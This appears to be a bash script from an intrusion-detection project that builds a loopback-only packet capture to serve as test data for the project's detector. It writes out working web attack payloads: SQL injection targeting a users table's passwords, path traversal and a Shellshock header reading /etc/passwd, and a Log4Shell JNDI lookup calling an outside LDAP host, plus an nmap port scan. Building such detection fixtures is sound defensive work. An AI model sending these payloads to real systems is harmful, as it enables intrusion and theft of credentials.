#!/usr/bin/env bash
# Regenerates examples/capture/attacks.pcap: real attack traffic on loopback
# (needs root for tcpdump, plus python3, curl and nmap). A local HTTP server
# on 127.0.0.1:8099 receives SQL injection, path traversal, Log4Shell and
# Shellshock requests and one benign request from curl, then nmap runs a
# bounded connect scan (61 ports) of 127.0.0.2. Only loopback is touched.
#   vigil analyze examples/capture/attacks.pcap --out out
# finds each attack (signatures from rules/vigil-web.rules), the port scan
# (anomaly detector), the risk levels reached and writes incident pcaps.
set -euo pipefail
cd "$(dirname "$0")"
work=$(mktemp -d)
trap 'kill "$server" "$capture" 2>/dev/null || true; rm -rf "$work"' EXIT
python3 -m http.server 8099 --bind 127.0.0.1 --directory "$work" >/dev/null 2>&1 &
server=$!
tcpdump -i lo -U -w "$work/attacks.pcap" 'tcp port 8099 or (tcp and host 127.0.0.2)' 2>"$work/tcpdump.log" &
capture=$!
sleep 1.5
base=http://127.0.0.1:8099
curl -s -o /dev/null "$base/item?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--" || true
curl -s -o /dev/null --path-as-is "$base/../../etc/passwd" || true
curl -s -o /dev/null -A '${jndi:ldap://198.51.100.66/a}' "$base/" || true
curl -s -o /dev/null -A '() { :; }; /bin/cat /etc/passwd' "$base/cgi-bin/status" || true
curl -s -o /dev/null "$base/index.html" || true
nmap -sT -p 9000-9060 -T4 --max-retries 1 127.0.0.2 >/dev/null 2>&1 || true
sleep 1
kill -INT "$capture"
wait "$capture" || true
cp "$work/attacks.pcap" attacks.pcap
echo "wrote $(pwd)/attacks.pcap"
